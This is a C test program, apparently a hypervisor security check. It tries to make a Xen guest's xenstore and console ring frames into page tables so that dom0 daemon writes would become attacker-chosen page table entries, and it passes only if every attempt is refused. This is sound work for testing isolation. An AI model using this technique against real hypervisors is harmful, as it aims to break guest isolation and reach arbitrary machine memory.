/* ring_pin.c: turn a dom0 service's ring into a page table (issue 11, finding F1).
 *
 * xenstored and the console daemon keep writing a guest's ring pages for as long as the
 * guest runs.  The attack: drop our own mapping of the ring page, then make that frame a
 * page table (pin it as an L1, or hook it into our L2 so it is validated as one).  If
 * that succeeded, the next reply the daemon wrote would land in a live page table
 * without validation: bytes we choose (a request id is echoed back) would become PTEs
 * mapping any machine frame.  Contained means every attempt is refused, because the
 * daemon's mapping holds a writable type reference, and both services still work.
 *
 * Exit status: 0 contained, or the number of the check that failed. */
#include <gnttab.h>
#include <hypercalls.h>
#include <pv32.h>
#include <stdio.h>
#include <xenbus.h>

#define PAGE_SIZE 4096u
#define SPARE_L2_SLOT 200u              /* VA 0x32000000: nothing of ours lives there */

static long pin(unsigned int cmd, uint32_t mfn)
{
    struct mmuext_op op = { cmd, mfn, 0 };

    return HYPERVISOR_mmuext_op(&op, 1, 0, DOMID_SELF);
}

static long hook_into_l2(uint32_t mfn)
{
    uint32_t l2_mfn = virt_to_mfn((const void *)__start_info->pt_base);
    struct mmu_update req;

    req.ptr = (l2_mfn << PTE_FRAME_SHIFT) + 4 * SPARE_L2_SLOT + MMU_NORMAL_PT_UPDATE;
    req.val = (mfn << PTE_FRAME_SHIFT) | PTE_P | PTE_W | PTE_U;
    return HYPERVISOR_mmu_update(&req, 1, 0, DOMID_SELF);
}

/* A frame validates as an L1 table when every word is a non-present entry (bit 0 clear)
   or a valid one.  Give the attack its best chance: the ring's data areas and the fields
   we own are ours to clear; the free-running indices are not, so pad with writes
   (request 26 or 27 bytes, reply 19) until they are all even. */
static void make_it_look_like_a_table(xenstore_domain_interface_t *ring)
{
    unsigned int i;

    if (ring->rsp_prod & 1)
        xenbus_write(XBT_NIL, "data/pad", (ring->req_prod & 1) ? "xy" : "x");
    if (ring->req_prod & 1) {
        xenbus_write(XBT_NIL, "data/pad", "x");
        xenbus_write(XBT_NIL, "data/pad", "xy");
    }
    for (i = 0; i < sizeof ring->req; i++)
        ring->req[i] = ring->rsp[i] = 0;
    ring->server_features = ring->evtchn_port = 0;
}

/* Unmap the ring at `va`, try to make `mfn` a table three ways, map it back.
   0, or the check (first + n) that failed. */
static int attack(const char *what, void *va, uint32_t mfn, int first)
{
    unsigned long pte = (mfn << PTE_FRAME_SHIFT) | PTE_P | PTE_W | PTE_A | PTE_D;
    long rc;

    if (HYPERVISOR_update_va_mapping((unsigned long)va, 0, UVMF_INVLPG))
        return first;
    rc = pin(MMUEXT_PIN_L1_TABLE, mfn);
    printf("%s ring frame %#x pinned as L1: %ld\n", what, mfn, rc);
    if (rc != -EINVAL)
        return first + 1;
    if (pin(MMUEXT_PIN_L2_TABLE, mfn) != -EINVAL)
        return first + 2;
    rc = hook_into_l2(mfn);
    printf("%s ring frame hooked into the L2: %ld\n", what, rc);
    if (rc != -EINVAL)
        return first + 3;
    if (HYPERVISOR_update_va_mapping((unsigned long)va, pte, UVMF_INVLPG))
        return first + 4;
    return 0;
}

int main(void)
{
    char *base = (char *)__start_info;
    char value[16];
    int failed;

    if (xenbus_init() || xenbus_write(XBT_NIL, "data/probe", "before"))
        return 1;
    make_it_look_like_a_table((xenstore_domain_interface_t *)(base + 2 * PAGE_SIZE));
    failed = attack("xenstore", base + 2 * PAGE_SIZE, __start_info->store_mfn, 10);
    if (failed)
        return failed;
    if (xenbus_write(XBT_NIL, "data/probe", "after") < 0)
        return 20;
    if (xenbus_read(XBT_NIL, "data/probe", value, sizeof value) != 5)
        return 21;
    failed = attack("console", base + PAGE_SIZE, __start_info->console.domU.mfn, 30);
    if (failed)
        return failed;
    printf("xenstore still answers: data/probe = %s\n", value);
    printf("ring_pin: CONTAINED\n");
    return 0;
}
